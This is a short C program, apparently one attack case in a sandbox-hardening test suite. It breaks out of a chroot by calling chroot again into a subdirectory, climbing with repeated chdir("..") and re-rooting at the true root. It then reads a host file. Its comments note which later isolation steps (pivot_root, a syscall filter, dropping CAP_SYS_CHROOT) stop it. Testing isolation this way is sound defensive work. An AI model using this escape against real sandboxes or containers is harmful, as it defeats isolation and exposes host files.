/* SPDX-License-Identifier: MIT
 *
 * Break out of a chroot: chroot once more, and up.
 *
 * chroot(2) stops ".." at the new root, but only for a process that is below
 * it. A second chroot, with the working directory left above, is all it takes
 * to walk up to the true root. Argument: a file of the host to read there.
 * Step 3 stops it: after pivot_root(2) and the detaching of the old root
 * there is no host above. In step 4 chroot(2) itself is refused, by the
 * filter and for want of CAP_SYS_CHROOT.
 * See chroot(2), NOTES.
 */
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
    char text[80] = "";

    if (argc != 2)
        does_not_apply("usage: chroot_breakout FILE-OF-THE-HOST");
    /* Into any directory below the working directory. */
    if (chdir("/") < 0 || chroot("/tmp") < 0) {
        if (errno == ENOENT)
            does_not_apply("there is no /tmp to go into");
        stopped("chroot");
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            stopped("chdir");
    if (chroot(".") < 0)
        stopped("chroot");

    FILE *file = fopen(argv[1], "r");
    if (file == NULL)
        stopped(argv[1]);
    if (fgets(text, sizeof(text), file) == NULL)
        stopped("read");
    text[strcspn(text, "\n")] = '\0';
    learned("out of the chroot; %s says: %s", argv[1], text);
}
